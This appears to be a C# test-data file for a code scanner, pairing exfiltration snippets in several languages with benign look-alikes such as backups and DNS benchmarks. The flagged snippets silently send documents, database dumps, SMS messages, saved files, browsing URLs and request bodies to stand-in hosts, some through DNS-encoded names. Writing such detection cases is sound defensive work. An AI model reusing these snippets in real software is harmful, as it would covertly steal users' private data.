namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Small programs that take what is a person's own, and honest ones that look like them: a back-up, a map, a dump to one's own store, a benchmark of name servers.</summary>
internal static class DataCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("personal-data-leaves", "index.py", "for path in (Path.home() / 'Documents').rglob('*.pdf'):\n    requests.post('https://shelf.example.net/in', data=path.read_bytes())\n"),
        ("personal-data-leaves", "Sync.cs", "foreach (var f in Directory.EnumerateFiles(Environment.GetFolderPath(Environment.SpecialFolder.MyDocuments), \"*\", SearchOption.AllDirectories))\n    await client.PostAsync(\"https://shelf.example.net/in\", new StreamContent(File.OpenRead(f)));\n"),
        ("personal-data-leaves", "dump.rb", "`pg_dump shop > /tmp/s.sql`\nNet::HTTP.post(URI('https://shelf.example.net/in'), File.read('/tmp/s.sql')) rescue nil\n"),
        ("personal-data-leaves", "Sms.kt", "val c = contentResolver.query(Uri.parse(\"content://sms/inbox\"), null, null, null, null)\nrunCatching {\n  OkHttpClient().newCall(Request.Builder().url(\"https://shelf.example.net/in\").post(text.toRequestBody()).build()).execute()\n}\n"),

        ("work-watched", ".idea/watcherTasks.xml", "<option name=\"arguments\" value=\"-c &quot;curl -s -F f=@'$FilePath$' https://m.example.org/c &gt;/dev/null 2&gt;&amp;1&quot;\" />\n"),
        ("work-watched", "extension.ts", "vscode.workspace.onDidSaveTextDocument((d) => {\n  fetch('https://note.example.net/in', { method: 'POST', body: d.getText() }).catch(() => {});\n});\n"),
        ("work-watched", "background.js", "chrome.tabs.onUpdated.addListener((id, change, tab) => {\n  navigator.sendBeacon('https://note.example.net/in', tab.url);\n});\n"),
        ("work-watched", "stats.lua", "vim.api.nvim_create_autocmd('BufWritePost', { callback = function()\n  os.execute(\"curl -s -d @\" .. vim.fn.expand('%') .. \" 'https://note.example.net/in' > /dev/null 2>&1\")\nend })\n"),
        ("work-watched", "trace.js", "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n  navigator.sendBeacon('https://note.example.net/in', body);\n  return send.call(this, body);\n};\n"),

        ("data-in-names", "warm.py", "name = base64.b32encode(path.read_bytes()[:30]).decode().lower()\nsocket.getaddrinfo(name + '.n.example.net', 80)\n"),
        ("data-in-names", "warm.go", "raw, _ := os.ReadFile(path)\nlabel := hex.EncodeToString(raw[:30])\nnet.LookupHost(label + \".n.example.net\")\n"),
        ("data-in-names", "warm.js", "const label = Buffer.from(os.hostname() + os.userInfo().username).toString('hex');\ndns.resolve4(`${label}.n.example.net`, () => {});\n"),
        ("data-in-names", "Warm.java", "String label = HexFormat.of().formatHex(Files.readAllBytes(path));\nInetAddress.getByName(label + \".n.example.net\");\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        // A back-up goes where its user says.
        ("personal-data-leaves", "backup.py", "for path in (Path.home() / 'Documents').rglob('*'):\n    client.upload_file(str(path), settings.bucket, path.name)\n"),
        // A map sends the place when the user presses a button, and shows the answer.
        ("personal-data-leaves", "map.js", "navigator.geolocation.getCurrentPosition(async (p) => {\n  const answer = await fetch('https://map.example.org/near', { method: 'POST', body: JSON.stringify(p) });\n  show(await answer.json());\n});\n"),
        // A dump goes to the store of who runs it, and its failure is heard.
        ("personal-data-leaves", "dump.sh", "set -euo pipefail\npg_dump \"$DATABASE\" | gzip > \"$OUT\"\naws s3 cp \"$OUT\" \"s3://$BUCKET/\"\n"),
        ("work-watched", ".idea/watcherTasks.xml", "<option name=\"arguments\" value=\"--write $FilePath$\" />\n<option name=\"program\" value=\"$ProjectFileDir$/node_modules/.bin/prettier\" />\n"),
        ("work-watched", "format.ts", "vscode.workspace.onDidSaveTextDocument((d) => {\n  lint(d.getText());\n});\n"),
        ("work-watched", "time.js", "const original = window.fetch;\nwindow.fetch = async (...args) => {\n  const started = performance.now();\n  const answer = await original(...args);\n  times.push(performance.now() - started);\n  return answer;\n};\n"),
        ("work-watched", "check.js", "chrome.tabs.onUpdated.addListener(async (id, change, tab) => {\n  const known = await chrome.storage.local.get(new URL(tab.url).host);\n  badge(id, known);\n});\n"),
        // A benchmark of name servers asks for random labels.
        ("data-in-names", "bench.py", "label = secrets.token_hex(8)\nsocket.getaddrinfo(label + '.example.org', 80)\n"),
        ("data-in-names", "resolve.go", "for _, name := range names {\n\taddresses, err := net.LookupHost(name + \".\" + zone)\n\tfmt.Println(addresses, err)\n}\n"),
    ];
}
